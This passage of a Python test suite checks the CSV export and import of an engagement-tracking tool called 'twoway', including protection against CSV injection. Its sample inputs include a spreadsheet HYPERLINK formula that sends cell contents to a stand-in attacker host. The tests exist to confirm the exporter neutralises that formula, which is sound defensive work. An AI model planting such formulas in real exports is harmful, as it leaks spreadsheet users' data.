from __future__ import annotations

import csv
import io
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select
from sqlalchemy.exc import DataError, OperationalError
from sqlalchemy.orm import Session, sessionmaker

from bot.links import parse_post_link
from bot.transfer import (
    COLUMNS,
    SNAPSHOT_COLUMNS,
    RowError,
    SnapshotRow,
    format_cell,
    guard,
    parse_snapshot_row,
    read_snapshot_csv,
    unguard,
    write_csv,
)
from storage import bulk
from storage.channels import all_team_ids, ensure_channel
from storage.comments import close_comment, flag_comment
from storage.models import Post
from storage.posts import SharedLink, record_share
from storage.snapshots import add_snapshot
from storage.workspace_rows import count_rows
from tests.support.postgres import fresh_schema
from tests.support.seen import fetched_snapshot, seen_comment
from twoway.cli import main

Sessions = sessionmaker[Session]

NOW = datetime(2024, 5, 6, 9, 0, tzinfo=UTC)
# When the pure parsing tests run: after every snapshot they read.
LATER = datetime(2025, 1, 1, tzinfo=UTC)
TEAM_A, TEAM_B = "T0TWOWAY1", "T0OTHER001"
ADA, GRACE = "U0ADA00001", "U0GRACE001"
SOCIAL, LAUNCH, OTHER = "C0SOCIAL01", "C0LAUNCH01", "C0OTHER001"

# Text a spreadsheet would run, and text that must survive CSV quoting byte for byte.
TRICKY_TEXTS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "+1 from me",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindented",
    "\rcarriage",
    "'already quoted",
    'line one\nline two, with "quotes"\r\nand a CRLF',
    "Привет, 世界! مرحبا 👋🏽 👨‍👩‍👧",
]


def cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def shared(url: str) -> SharedLink:
    link = parse_post_link(url)
    assert link is not None
    return SharedLink(url=link.url, canonical_url=link.canonical_url, platform=link.platform)


def seed(sessions: Sessions) -> None:
    """Two teams' ledgers: posts in two channels, snapshots of every source, tricky comments."""
    with sessions.begin() as s:
        for team, channel in ((TEAM_A, SOCIAL), (TEAM_A, LAUNCH), (TEAM_B, OTHER)):
            ensure_channel(s, team, channel, now=NOW)
        tweet, _ = record_share(
            s,
            TEAM_A,
            channel_id=SOCIAL,
            message_ts="1714986000.000100",
            user_id=ADA,
            link=shared("https://twitter.com/TwoWay/status/1787?utm_source=slack"),
            shared_at=NOW,
        )
        video, _ = record_share(
            s,
            TEAM_A,
            channel_id=LAUNCH,
            message_ts="1714986000.000200",
            user_id=GRACE,
            link=shared("https://youtu.be/dQw4w9WgXcQ"),
            shared_at=NOW + timedelta(minutes=5),
        )
        theirs, _ = record_share(
            s,
            TEAM_B,
            channel_id=OTHER,
            message_ts="1714986000.000300",
            user_id="U0LINUS001",
            link=shared("https://bsky.app/profile/other.example/post/3kxyz"),
            shared_at=NOW,
        )
        for post, team, minutes, source in (
            (tweet, TEAM_A, 60, "thread"),
            (tweet, TEAM_A, 120, "command"),
            (video, TEAM_A, 61, "import"),
            (theirs, TEAM_B, 60, "thread"),
        ):
            add_snapshot(
                s,
                team,
                post.id,
                comments_received=minutes // 10,
                replies_sent=minutes // 60,
                shares=3,
                likes=minutes,
                # Microseconds must survive the round trip, or re-importing would add a twin.
                recorded_at=NOW + timedelta(minutes=minutes, microseconds=123_456),
                recorded_by=ADA if team == TEAM_A and source != "import" else None,
                source=source,
                source_ref=f"ref-{minutes}" if source == "thread" else None,
            )
        for number, comment_text in enumerate(TRICKY_TEXTS):
            flag_comment(
                s,
                TEAM_A,
                post=tweet,
                channel_id=SOCIAL,
                text=comment_text,
                author="@mallory" if number == 0 else None,
                flagged_by=GRACE,
                flagged_at=NOW + timedelta(hours=number),
                written_at=NOW if number == 1 else None,
            )
        secret, _ = flag_comment(
            s,
            TEAM_B,
            post=theirs,
            channel_id=OTHER,
            text="team B's secret",
            author=None,
            flagged_by="U0LINUS001",
            flagged_at=NOW,
        )
        close_comment(s, TEAM_B, secret.id, state="answered", by="U0LINUS001", at=NOW + timedelta(hours=2))


@pytest.fixture
def fresh_url(db_url: str, request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    """A second empty database on the same backend as ``db_url``."""
    if db_url.startswith("sqlite"):
        yield f"sqlite:///{tmp_path / 'fresh.db'}"
        return
    admin = request.getfixturevalue("postgresql_admin")
    with fresh_schema(admin, request.getfixturevalue("postgresql_server")) as url:
        yield url


# A good snapshot row; tests override single cells.
GOOD = {
    "team_id": TEAM_A,
    "channel_id": SOCIAL,
    "post_url": "https://x.com/twoway/status/1787",
    "platform": "x",
    "owner_user_id": ADA,
    "post_shared_at": "2024-05-06T09:00:00Z",
    "recorded_at": "2024-05-07T09:00:00Z",
    "comments_received": "14",
    "replies_sent": "3",
    "shares": "20",
    "likes": "51",
    "recorded_by": GRACE,
    "source": "thread",
    "quotes": "",
}


def csv_text(header: list[str], rows: list[list[str]]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def row_of(header: list[str], **cells: str) -> list[str]:
    values = {**GOOD, **cells}
    return [values.get(column, "") for column in header]


def snapshots_file(tmp_path: Path, content: str, name: str = "snapshots.csv") -> str:
    path = tmp_path / name
    path.write_text(content, encoding="utf-8", newline="")
    return str(path)


# ---------------------------------------------------------------- export and import, both backends


def test_export_then_import_into_a_fresh_database_gives_the_same_snapshots(
    sessions: Sessions,
    db_url: str,
    fresh_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    seed(sessions)
    monkeypatch.setenv("DATABASE_URL", db_url)
    code, exported, err = cli(capsys, "export", "snapshots")
    assert (code, err) == (0, "")
    lines = exported.splitlines()
    assert lines[0] == ",".join(SNAPSHOT_COLUMNS)
    assert lines[1] == (
        "T0OTHER001,C0OTHER001,https://bsky.app/profile/other.example/post/3kxyz,bluesky,U0LINUS001,"
        "2024-05-06T09:00:00Z,2024-05-06T10:00:00.123456Z,6,1,3,60,,thread,"
    )
    assert len(lines) == 5

    monkeypatch.setenv("DATABASE_URL", fresh_url)
    code, out, err = cli(capsys, "import", snapshots_file(tmp_path, exported))
    assert (code, out, err) == (0, "", "loaded 4 snapshots, 0 already there, 0 bad rows\n")
    code, again, _ = cli(capsys, "export", "snapshots")
    assert code == 0
    assert again == exported


def test_what_twoway_read_on_a_network_is_exported_and_its_numbers_come_back_as_fetched(
    sessions: Sessions,
    db_url: str,
    fresh_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    seed(sessions)
    with sessions.begin() as s:
        theirs = s.scalars(select(Post).where(Post.team_id == TEAM_B)).one()
        fetched_snapshot(s, theirs, at=NOW + timedelta(hours=3), comments=9, replies=2, shares=4, quotes=3)
        seen_comment(
            s,
            theirs,
            text="Is this on sale yet?",
            author="fan.bsky.social",
            written_at=NOW + timedelta(hours=1),
            seen_at=NOW + timedelta(hours=2),
            remote_id="at://did:plc:fan/app.bsky.feed.post/3kabc",
            url="https://bsky.app/profile/fan.bsky.social/post/3kabc",
            state="answered",
            answered_at=NOW + timedelta(hours=4),
        )
    monkeypatch.setenv("DATABASE_URL", db_url)
    _, exported, _ = cli(capsys, "export", "snapshots", "--team", TEAM_B)
    assert exported.splitlines()[-1] == (
        "T0OTHER001,C0OTHER001,https://bsky.app/profile/other.example/post/3kxyz,bluesky,U0LINUS001,"
        "2024-05-06T09:00:00Z,2024-05-06T12:00:00Z,9,2,4,0,,fetched,3"
    )
    _, comments, _ = cli(capsys, "export", "comments", "--team", TEAM_B)
    seen = list(csv.DictReader(io.StringIO(comments, newline="")))[-1]
    columns = ("flagged_by", "answered_by", "answered_at", "seen_on", "remote_id", "url")
    assert {column: seen[column] for column in columns} == {
        "flagged_by": "",
        "answered_by": "",
        "answered_at": "2024-05-06T13:00:00Z",
        "seen_on": "bluesky",
        "remote_id": "at://did:plc:fan/app.bsky.feed.post/3kabc",
        "url": "https://bsky.app/profile/fan.bsky.social/post/3kabc",
    }

    # Into an empty database: the numbers stay fetched, with their quotes; no comment is made up.
    monkeypatch.setenv("DATABASE_URL", fresh_url)
    code, out, err = cli(capsys, "import", snapshots_file(tmp_path, exported))
    assert (code, out, err) == (0, "", "loaded 2 snapshots, 0 already there, 0 bad rows\n")
    _, again, _ = cli(capsys, "export", "snapshots")
    assert again == exported
    _, no_comments, _ = cli(capsys, "export", "comments")
    assert no_comments.splitlines() == [",".join(COLUMNS["comments"])]


def test_a_fetched_snapshot_that_names_who_typed_it_is_refused() -> None:
    header = list(SNAPSHOT_COLUMNS)
    row = dict(zip(header, row_of(header, source="fetched", quotes="2"), strict=True))
    assert parse_snapshot_row(row, 2, now=LATER) == RowError(
        2,
        "recorded_by 'U0GRACE001' is set on a fetched snapshot: numbers fetched from a network were typed by "
        "nobody; leave recorded_by blank or give another source",
    )
    fetched = parse_snapshot_row({**row, "recorded_by": ""}, 2, now=LATER)
    assert isinstance(fetched, SnapshotRow)
    assert (fetched.source, fetched.recorded_by, fetched.quotes) == ("fetched", None, 2)
    assert parse_snapshot_row({**row, "recorded_by": "", "quotes": "two"}, 3, now=LATER) == RowError(
        3, "quotes 'two' is not a whole number of 0 or more"
    )


def test_importing_the_same_file_twice_adds_nothing(
    sessions: Sessions,
    db_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    seed(sessions)
    monkeypatch.setenv("DATABASE_URL", db_url)
    _, exported, _ = cli(capsys, "export", "snapshots")
    path = snapshots_file(tmp_path, exported)

    # Into the database it came from, then once more: every row is already there.
    for _ in range(2):
        code, _, err = cli(capsys, "import", path)
        assert (code, err) == (0, "loaded 0 snapshots, 4 already there, 0 bad rows\n")
    with sessions() as s:
        assert count_rows(s, TEAM_A)["snapshots"] == 3
        assert count_rows(s, TEAM_B)["snapshots"] == 1


def test_import_creates_channels_and_posts_on_a_database_never_migrated(
    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    header = list(SNAPSHOT_COLUMNS)
    content = csv_text(
        header,
        [
            row_of(header, post_url="https://twitter.com/TwoWay/status/1787?utm_source=x&s=20"),
            row_of(header, recorded_at="2024-05-08T09:00:00+02:00", likes="60"),
        ],
    )
    monkeypatch.setenv("DATABASE_URL", db_url)
    code, _, err = cli(capsys, "import", snapshots_file(tmp_path, content))
    assert (code, err) == (0, "loaded 2 snapshots, 0 already there, 0 bad rows\n")

    code, posts, _ = cli(capsys, "export", "posts")
    assert posts.splitlines()[1:] == [
        "T0TWOWAY1,C0SOCIAL01,1,https://x.com/twoway/status/1787,"
        "https://twitter.com/TwoWay/status/1787?utm_source=x&s=20,x,U0ADA00001,2024-05-06T09:00:00Z,"
    ]
    _, snapshots, _ = cli(capsys, "export", "snapshots")
    assert [line.split(",")[6] for line in snapshots.splitlines()[1:]] == [
        "2024-05-07T09:00:00Z",
        "2024-05-08T07:00:00Z",
    ]


def test_bad_rows_are_reported_by_line_and_nothing_is_loaded(
    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # An extra column the importer ignores carries multi-line notes, which shift line numbers.
    header = [*SNAPSHOT_COLUMNS, "note"]
    rows = [
        row_of(header, note="first\nsecond\nthird"),  # lines 2-4
        row_of(header, team_id="team-a"),  # 5
        row_of(header, channel_id="#general"),  # 6
        row_of(header, owner_user_id="ada"),  # 7
        row_of(header, post_url="mailto:ada@example.com"),  # 8
        row_of(header, recorded_at="yesterday"),  # 9
        row_of(header, post_shared_at="2024-05-06T09:00:00"),  # 10
        row_of(header, likes="-3", note="two\nlines"),  # 11-12
        row_of(header, shares="1.5"),  # 13
        row_of(header, source="scraper"),  # 14
        [TEAM_A, SOCIAL],  # 15
        row_of(header, recorded_at="2024-05-08T09:00:00Z"),  # 16
        [],  # 17, blank: skipped
        row_of(header, post_url="https://example.com/a\nb"),  # 18-19
        row_of(header, recorded_at="2024-05-09T09:00:00Z", recorded_by="", source=""),  # 20
        [*row_of(header, recorded_at="2024-05-10T09:00:00Z"), "surplus"],  # 21
    ]
    monkeypatch.setenv("DATABASE_URL", db_url)
    code, out, err = cli(capsys, "import", snapshots_file(tmp_path, csv_text(header, rows)))

    assert (code, out) == (1, "")
    assert err.splitlines() == [
        "line 5: team_id 'team-a' is not a Slack team id (T…)",
        "line 6: channel_id '#general' is not a Slack channel id (C…, G… or D…)",
        "line 7: owner_user_id 'ada' is not a Slack user id (U… or W…)",
        "line 8: post_url 'mailto:ada@example.com' is not a link to a post",
        "line 9: recorded_at 'yesterday' is not an ISO-8601 timestamp (e.g. 2024-05-06T09:30:00Z)",
        "line 10: post_shared_at '2024-05-06T09:00:00' has no time zone: "
        "add Z for UTC or an offset like +02:00",
        "line 11: likes '-3' is not a whole number of 0 or more",
        "line 13: shares '1.5' is not a whole number of 0 or more",
        "line 14: source 'scraper' is not one of thread, command, import, fetched",
        "line 15: missing columns: post_url, owner_user_id, post_shared_at, recorded_at, "
        "comments_received, replies_sent, shares, likes",
        "line 18: post_url 'https://example.com/a\\nb' is not a link to a post",
        "line 21: 16 cells, but the header names 15 columns",
        "loaded nothing: 12 bad rows; correct them and import the file again",
    ]
    # A file is loaded whole or not at all: the three good rows wait for the bad ones to be corrected.
    for table in ("posts", "snapshots"):
        _, exported, _ = cli(capsys, "export", table)
        assert exported.splitlines()[1:] == []


def test_a_row_the_database_refuses_leaves_nothing_behind(
    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    header = list(SNAPSHOT_COLUMNS)
    rows = [
        row_of(header),
        row_of(
            header,
            channel_id=LAUNCH,
            post_url="https://example.com/doomed",
            recorded_at="2024-05-08T09:00:00Z",
        ),
        row_of(header, recorded_at="2024-05-09T09:00:00Z"),
    ]
    real_add_snapshot = bulk.add_snapshot

    def refuse_the_doomed_post(s: Session, team_id: str, post_id: int, **values: Any) -> bool:
        if values["recorded_at"].day == 8:
            raise DataError("INSERT INTO snapshots …", {}, Exception("value too long\nDETAIL: …"))
        return real_add_snapshot(s, team_id, post_id, **values)

    # Fails after the row's channel and post were written, inside its savepoint.
    monkeypatch.setattr(bulk, "add_snapshot", refuse_the_doomed_post)
    monkeypatch.setenv("DATABASE_URL", db_url)
    code, _, err = cli(capsys, "import", snapshots_file(tmp_path, csv_text(header, rows)))
    assert (code, err) == (
        1,
        "line 3: the database refused it: value too long\n"
        "loaded nothing: 1 bad row; correct them and import the file again\n",
    )
    # The rows before it, loaded in the same transaction, are taken back with it.
    for table in ("posts", "snapshots"):
        _, exported, _ = cli(capsys, "export", table)
        assert exported.splitlines()[1:] == []


def test_a_failing_database_stops_the_import_with_one_line(
    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def locked(*args: object, **kwargs: object) -> bool:
        raise OperationalError("INSERT …", {}, Exception("database is locked"))

    monkeypatch.setattr(bulk, "add_snapshot", locked)
    monkeypatch.setenv("DATABASE_URL", db_url)
    header = list(SNAPSHOT_COLUMNS)
    code, _, err = cli(capsys, "import", snapshots_file(tmp_path, csv_text(header, [row_of(header)])))
    assert (code, err) == (
        1,
        "twoway: the database failed at line 2: database is locked; "
        "nothing was loaded, import the file again\n",
    )


def test_csv_injection_is_neutralised_on_export_and_text_comes_back_exactly(
    sessions: Sessions, db_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    seed(sessions)
    monkeypatch.setenv("DATABASE_URL", db_url)
    code, exported, _ = cli(capsys, "export", "comments", "--team", TEAM_A)
    assert code == 0

    rows = list(csv.DictReader(io.StringIO(exported, newline="")))
    raw_texts = [row["text"] for row in rows]
    assert raw_texts[:7] == [
        '\'=HYPERLINK("https://evil.example/?d="&A1,"click")',
        "'+1 from me",
        "'-2+3",
        "'@SUM(A1:A9)",
        "'\tindented",
        "'\rcarriage",
        "''already quoted",
    ]
    assert rows[0]["author"] == "'@mallory"
    assert [unguard(t) for t in raw_texts] == TRICKY_TEXTS
    assert rows[1]["written_at"] == "2024-05-06T09:00:00Z"
    assert {row["state"] for row in rows} == {"open"}


def test_guarded_cells_are_restored_on_import(
    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    header = list(SNAPSHOT_COLUMNS)
    # A tool that quoted every cell on the way, as the exporter does for risky ones.
    content = csv_text(header, [["'" + cell for cell in row_of(header)]])
    monkeypatch.setenv("DATABASE_URL", db_url)
    code, _, err = cli(capsys, "import", snapshots_file(tmp_path, content))
    assert (code, err) == (0, "loaded 1 snapshot, 0 already there, 0 bad rows\n")
    _, exported, _ = cli(capsys, "export", "snapshots")
    assert exported.splitlines()[1] == ",".join(GOOD[column] for column in SNAPSHOT_COLUMNS)


def test_export_shows_one_team_only_when_asked_and_never_mixes_teams(
    sessions: Sessions, db_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    seed(sessions)
    monkeypatch.setenv("DATABASE_URL", db_url)
    for table in ("posts", "snapshots", "comments"):
        _, everything, _ = cli(capsys, "export", table)
        _, team_a, _ = cli(capsys, "export", table, "--team", TEAM_A)
        _, team_b, _ = cli(capsys, "export", table, "--team", TEAM_B)
        a_rows = list(csv.DictReader(io.StringIO(team_a, newline="")))
        b_rows = list(csv.DictReader(io.StringIO(team_b, newline="")))
        assert a_rows
        assert b_rows
        assert {row["team_id"] for row in a_rows} == {TEAM_A}
        assert {row["team_id"] for row in b_rows} == {TEAM_B}
        assert "bsky.app" not in team_a
        assert "secret" not in team_a
        assert "x.com" not in team_b
        assert ADA not in team_b
        # Without --team: every team, each one's rows together.
        assert everything == team_b + team_a.split("\n", 1)[1]

    _, launch, _ = cli(capsys, "export", "snapshots", "--team", TEAM_A, "--channel", LAUNCH)
    assert [row["post_url"] for row in csv.DictReader(io.StringIO(launch))] == [
        "https://youtube.com/watch?v=dQw4w9WgXcQ"
    ]
    _, nobody, _ = cli(capsys, "export", "posts", "--team", "T0NOPE0000")
    assert nobody == ",".join(COLUMNS["posts"]) + "\r\n"


def test_long_import_shows_progress_and_short_one_stays_quiet(
    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    header = list(SNAPSHOT_COLUMNS)
    start = datetime(2024, 5, 7, tzinfo=UTC)
    rows = [
        row_of(
            header,
            post_url=f"https://example.com/posts/{n % 25}",
            recorded_at=format_cell(start + timedelta(minutes=n)),
        )
        for n in range(2_500)
    ]
    monkeypatch.setenv("DATABASE_URL", db_url)
    code, _, err = cli(capsys, "import", snapshots_file(tmp_path, csv_text(header, rows)))
    assert code == 0
    assert err == "… 1,000 rows\n… 2,000 rows\nloaded 2,500 snapshots, 0 already there, 0 bad rows\n"

    code, _, err = cli(capsys, "import", snapshots_file(tmp_path, csv_text(header, rows[:900]), "short.csv"))
    assert (code, err) == (0, "loaded 0 snapshots, 900 already there, 0 bad rows\n")


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (
            "team_id,channel_id,post_url,recorded_at,likes\n",
            "missing columns: owner_user_id, post_shared_at, comments_received, replies_sent, shares",
        ),
        (
            ",".join(c for c in SNAPSHOT_COLUMNS if c != "likes") + "\n",
            "missing column: likes",
        ),
        ("", "the file is empty; the first line must name the columns"),
    ],
)
def test_a_file_without_the_snapshot_columns_is_refused_whole(
    content: str,
    expected: str,
    db_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("DATABASE_URL", db_url)
    path = snapshots_file(tmp_path, content)
    code, out, err = cli(capsys, "import", path)
    assert (code, out, err) == (2, "", f"twoway: {path}: {expected}\n")


def test_unreadable_files_are_refused_in_one_line(
    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("DATABASE_URL", db_url)
    missing = tmp_path / "nowhere.csv"
    assert cli(capsys, "import", str(missing)) == (
        2,
        "",
        f"twoway: cannot read {missing}: No such file or directory\n",
    )
    assert cli(capsys, "import", str(tmp_path)) == (
        2,
        "",
        f"twoway: cannot read {tmp_path}: Is a directory\n",
    )
    latin1 = tmp_path / "latin1.csv"
    latin1.write_bytes(",".join(SNAPSHOT_COLUMNS).encode() + b"\nT0TWOWAY1,caf\xe9\n")
    assert cli(capsys, "import", str(latin1)) == (
        2,
        "",
        f"twoway: {latin1} is not UTF-8 text (line 2); save it as UTF-8\n",
    )


def test_a_utf8_file_with_a_byte_order_mark_loads(
    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    header = list(SNAPSHOT_COLUMNS)
    path = tmp_path / "excel.csv"
    path.write_bytes(b"\xef\xbb\xbf" + csv_text(header, [row_of(header)]).replace("\n", "\r\n").encode())
    monkeypatch.setenv("DATABASE_URL", db_url)
    code, _, err = cli(capsys, "import", str(path))
    assert (code, err) == (0, "loaded 1 snapshot, 0 already there, 0 bad rows\n")


def test_a_file_that_names_a_column_twice_is_refused_whole(
    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # Read by name, one of the two "likes" cells would be loaded and the other dropped without a word.
    header = [*SNAPSHOT_COLUMNS, "likes"]
    path = snapshots_file(tmp_path, csv_text(header, [[*row_of(list(SNAPSHOT_COLUMNS)), "9000"]]))
    monkeypatch.setenv("DATABASE_URL", db_url)
    assert cli(capsys, "import", path) == (
        2,
        "",
        f"twoway: {path}: column likes is named twice (columns 11 and 15); keep one\n",
    )
    _, snapshots, _ = cli(capsys, "export", "snapshots")
    assert snapshots.splitlines()[1:] == []


def test_snapshots_dated_before_their_post_was_shared_or_in_the_future_are_refused(
    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    header = list(SNAPSHOT_COLUMNS)
    tomorrow = format_cell(datetime.now(UTC) + timedelta(days=1))
    rows = [
        row_of(header),  # 2
        row_of(header, recorded_at="2024-05-06T08:59:59Z"),  # 3: a second before the post was shared
        row_of(header, recorded_at="2024-05-06T10:00:00+02:00"),  # 4: 08:00 UTC, an hour before
        row_of(header, recorded_at=tomorrow),  # 5
        row_of(header, recorded_at="2024-05-06T09:00:00Z"),  # 6: the moment it was shared is fine
    ]
    monkeypatch.setenv("DATABASE_URL", db_url)
    code, _, err = cli(capsys, "import", snapshots_file(tmp_path, csv_text(header, rows)))
    assert (code, err.splitlines()) == (
        1,
        [
            "line 3: recorded_at '2024-05-06T08:59:59Z' is before post_shared_at '2024-05-06T09:00:00Z': "
            "a post has no engagement before it is shared",
            "line 4: recorded_at '2024-05-06T10:00:00+02:00' is before post_shared_at "
            "'2024-05-06T09:00:00Z': a post has no engagement before it is shared",
            f"line 5: recorded_at '{tomorrow}' is in the future",
            "loaded nothing: 3 bad rows; correct them and import the file again",
        ],
    )
    _, snapshots, _ = cli(capsys, "export", "snapshots")
    assert snapshots.splitlines()[1:] == []


def test_a_snapshot_dated_before_the_post_twoway_has_was_shared_is_refused(
    sessions: Sessions,
    db_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """An existing post keeps its share time, so a row is checked against that one, not its own."""
    seed(sessions)  # the tweet was shared at NOW, 2024-05-06 09:00 UTC
    header = list(SNAPSHOT_COLUMNS)
    rows = [
        row_of(header, recorded_at="2024-05-09T09:00:00Z"),
        row_of(header, post_shared_at="2024-05-01T09:00:00Z", recorded_at="2024-05-02T09:00:00Z"),
    ]
    with sessions() as s:
        before = count_rows(s, TEAM_A)
    monkeypatch.setenv("DATABASE_URL", db_url)
    code, _, err = cli(capsys, "import", snapshots_file(tmp_path, csv_text(header, rows)))
    assert (code, err.splitlines()) == (
        1,
        [
            "line 3: recorded_at 2024-05-02T09:00:00+00:00 is before its post was shared "
            "(2024-05-06T09:00:00+00:00, as twoway already has it)",
            "loaded nothing: 1 bad row; correct them and import the file again",
        ],
    )
    with sessions() as s:
        assert count_rows(s, TEAM_A) == before


def _generated_snapshots(
    path: Path, megabytes: float, *, first_minute: int = 0, bad_last: bool = False
) -> int:
    """A snapshots file of about ``megabytes``, one snapshot a minute over 200 posts; its size in bytes."""
    with path.open("w", encoding="utf-8", newline="") as out:
        out.write(",".join(SNAPSHOT_COLUMNS) + "\n")
        minute = first_minute
        while out.tell() < megabytes * 1_000_000:
            at = format_cell(datetime(2024, 5, 7, tzinfo=UTC) + timedelta(minutes=minute))
            out.write(
                f"{TEAM_A},{SOCIAL},https://example.com/posts/{minute % 200},blog,{ADA},"
                f"2024-05-06T09:00:00Z,{at},14,3,20,51,{GRACE},import\n"
            )
            minute += 1
        if bad_last:
            out.write(
                f"{TEAM_A},{SOCIAL},https://example.com/posts/1,blog,{ADA},2024-05-06T09:00:00Z,soon,1,1,1,1,,\n"
            )
    return path.stat().st_size


def _peak_import_memory(capsys: pytest.CaptureFixture[str], path: Path) -> tuple[int, str, int]:
    """The exit code, the last line and the peak of Python's allocations (tracemalloc) of one import."""
    tracemalloc.start()
    try:
        code, _, err = cli(capsys, "import", str(path))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return code, err.splitlines()[-1], peak


def test_an_imports_memory_does_not_grow_with_its_file(
    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The file is read a line at a time, twice (checked, then loaded), never held whole: it took 6.6
    times the file's size when it was read whole (a 2 MB file, 13.3 MB)."""
    monkeypatch.setenv("DATABASE_URL", db_url)
    # The first import migrates the database and imports the modules; those are no file's doing.
    small, large = tmp_path / "small.csv", tmp_path / "large.csv"
    _generated_snapshots(small, 0.05)
    assert cli(capsys, "import", str(small))[0] == 0

    _generated_snapshots(small, 0.4, first_minute=10_000)
    size = _generated_snapshots(large, 1.6, first_minute=20_000)
    code, _, peak_small = _peak_import_memory(capsys, small)
    assert code == 0
    code, summary, peak_large = _peak_import_memory(capsys, large)
    rows = len(large.read_text().splitlines()) - 1
    assert (code, summary) == (0, f"loaded {rows:,} snapshots, 0 already there, 0 bad rows")
    # Four times the file, and a tenth of its growth at most in memory (read whole: 6.6 times it).
    assert peak_large - peak_small < 0.1 * (size - small.stat().st_size), (peak_small, peak_large, size)
    # What is left is the same for any file (migrations checked, statements compiled): about 1 MB.
    assert peak_large < size, (peak_large, size)


def test_a_large_file_with_one_bad_row_at_its_end_is_checked_in_little_memory_and_loads_nothing(
    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("DATABASE_URL", db_url)
    warm = tmp_path / "warm.csv"
    _generated_snapshots(warm, 0.01)
    assert cli(capsys, "import", str(warm))[0] == 0
    with_bad_end = tmp_path / "large.csv"
    size = _generated_snapshots(with_bad_end, 4, first_minute=10_000, bad_last=True)
    code, summary, peak = _peak_import_memory(capsys, with_bad_end)
    assert (code, summary) == (1, "loaded nothing: 1 bad row; correct them and import the file again")
    assert peak < size / 10, (peak, size)
    _, snapshots, _ = cli(capsys, "export", "snapshots")
    assert len(snapshots.splitlines()) == len(warm.read_text().splitlines()), "only the first file's rows"


def test_export_of_an_empty_database_is_the_header(
    db_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("DATABASE_URL", db_url)
    for table, columns in COLUMNS.items():
        assert cli(capsys, "export", table) == (0, ",".join(columns) + "\r\n", "")


# ---------------------------------------------------------------- storage


def test_exports_yield_exactly_the_columns_of_their_csv(sessions: Sessions) -> None:
    seed(sessions)
    with sessions() as s:
        for table, export in (
            ("posts", bulk.export_posts),
            ("snapshots", bulk.export_snapshots),
            ("comments", bulk.export_comments),
        ):
            rows = list(export(s, TEAM_A))
            assert rows
            assert all(list(row) == list(COLUMNS[table]) for row in rows)
        assert all_team_ids(s) == [TEAM_B, TEAM_A]


def test_import_snapshot_refuses_a_row_of_another_team(sessions: Sessions) -> None:
    row = parse_snapshot_row(GOOD, 2, now=LATER)
    assert isinstance(row, SnapshotRow)
    with sessions.begin() as s, pytest.raises(ValueError, match="imported into team T0OTHER001"):
        bulk.import_snapshot(s, TEAM_B, row, now=NOW)


def test_import_snapshot_keeps_an_existing_posts_owner_and_channel(sessions: Sessions) -> None:
    seed(sessions)
    row = parse_snapshot_row(
        {
            **GOOD,
            "channel_id": LAUNCH,
            "owner_user_id": GRACE,
            "post_url": "https://x.com/TwoWay/status/1787",
        },
        2,
        now=LATER,
    )
    assert isinstance(row, SnapshotRow)
    known: dict[tuple[str, str], tuple[int, datetime]] = {}
    with sessions.begin() as s:
        assert bulk.import_snapshot(s, TEAM_A, row, now=NOW, known_posts=known) is True
        assert bulk.import_snapshot(s, TEAM_A, row, now=NOW, known_posts=known) is False
    with sessions() as s:
        posts = list(bulk.export_posts(s, TEAM_A))
    assert [(p["channel_id"], p["owner_user_id"]) for p in posts] == [(SOCIAL, ADA), (LAUNCH, GRACE)]
    assert known == {(TEAM_A, "https://x.com/twoway/status/1787"): (posts[0]["post_id"], NOW)}


# ---------------------------------------------------------------- pure: writing


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
